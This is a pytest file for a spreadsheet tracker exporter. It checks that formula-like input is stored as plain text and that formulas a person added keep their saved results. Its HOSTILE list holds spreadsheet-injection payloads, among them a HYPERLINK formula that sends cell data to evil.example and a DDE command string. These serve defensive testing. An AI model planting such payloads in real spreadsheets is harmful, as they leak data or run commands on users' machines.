"""The tracker selfeval writes holds no live formula of its own making, and keeps the person's formulas
with their saved results (point 3 and point 10 of the second safety review)."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from selfeval.write.tracker import TrackerRow, export_tracker

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&B3,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\tleading tab",
    "\rleading CR",
]


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as zf:
        return zf.read("xl/worksheets/sheet1.xml").decode("utf-8")


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_looks_like_a_formula_is_written_as_text(tmp_path: Path, text: str) -> None:
    tracker = tmp_path / "improvement-plan-tracker.xlsx"
    export_tracker([TrackerRow("AFI-1", text, text, "outcome 3")], tracker)
    xml = _sheet_xml(tracker)
    assert "<f>" not in xml and "<f " not in xml, "no cell selfeval writes is a formula"
    ws = openpyxl.load_workbook(tracker)["Actions"]
    assert ws["B2"].value == text and ws["C2"].value == text, "reading it back gives the same string"
    assert ws["B2"].data_type == "s"
    assert ws["B2"].quotePrefix, "Excel shows it literally even after the cell is edited"


def test_an_imported_hyperlink_formula_stays_text_when_the_tracker_is_updated(tmp_path: Path) -> None:
    tracker = tmp_path / "improvement-plan-tracker.xlsx"
    export_tracker([TrackerRow("AFI-1", "first", "inspection", "outcome 3")], tracker)
    export_tracker([TrackerRow("AFI-1", "first", "inspection", "outcome 3"), TrackerRow("AFI-2", HOSTILE[0], "visit", "")], tracker)
    assert "<f>" not in _sheet_xml(tracker)
    assert openpyxl.load_workbook(tracker)["Actions"]["B3"].value == HOSTILE[0]


def _with_cached_results(path: Path, results: dict[str, tuple[str | None, str]]) -> None:
    """Store formula results as Excel and LibreOffice Calc do when they save (openpyxl cannot)."""
    with zipfile.ZipFile(path) as zf:
        parts = {i.filename: zf.read(i) for i in zf.infolist()}
    xml = parts["xl/worksheets/sheet1.xml"].decode("utf-8")
    for ref, (t, value) in results.items():
        pattern = re.compile(rf'<c r="{ref}"([^>]*)><f>(.*?)</f><v\s*/?>(?:</v>)?</c>')
        assert pattern.search(xml), ref
        attrs = f' t="{t}"' if t else ""

        def cached(m: re.Match[str], ref: str = ref, attrs: str = attrs, value: str = value) -> str:
            other = re.sub(r' t="[^"]*"', "", m.group(1))
            return f'<c r="{ref}"{other}{attrs}><f>{m.group(2)}</f><v>{value}</v></c>'

        xml = pattern.sub(cached, xml)
    parts["xl/worksheets/sheet1.xml"] = xml.encode("utf-8")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)


def test_plan_export_keeps_the_saved_results_of_the_persons_formulas(tmp_path: Path) -> None:
    from selfeval.load.actions import load_actions

    tracker = tmp_path / "improvement-plan-tracker.xlsx"
    export_tracker([TrackerRow("AFI-1", "Return home interviews.", "Inspection 2026", "outcome 3")], tracker)
    wb = openpyxl.load_workbook(tracker)
    ws = wb["Actions"]
    ws["F2"] = '=CONCATENATE("Audit every ","return home interview")'
    ws["G2"] = "Head of service"
    ws["K2"] = '=IF(G2="","no lead","on track")'
    ws["N1"] = "Days open"
    ws["N2"] = "=LEN(F2)*2"
    ws["O2"] = "=N2>10"
    wb.save(tracker)
    _with_cached_results(
        tracker, {"F2": ("str", "Audit every return home interview"), "K2": ("str", "on track"), "N2": (None, "66"), "O2": ("b", "1")}
    )
    assert load_actions(tracker).actions[0].text == "Audit every return home interview"

    result = export_tracker(
        [TrackerRow("AFI-1", "Return home interviews.", "Inspection 2026", "outcome 3"), TrackerRow("AFI-2", "Supervision.", "Visit", "")],
        tracker,
    )
    assert result.written and result.added == ["AFI-2"]
    values = openpyxl.load_workbook(tracker, data_only=True)["Actions"]
    assert [values[c].value for c in ("F2", "K2", "N2", "O2")] == ["Audit every return home interview", "on track", 66, True]
    formulas = openpyxl.load_workbook(tracker)["Actions"]
    assert formulas["N2"].value == "=LEN(F2)*2", "the formula itself is kept"
    plan = load_actions(tracker)  # the next generate reads it without "a program that does not calculate"
    assert plan.actions[0].text == "Audit every return home interview" and plan.actions[0].progress == "on track"
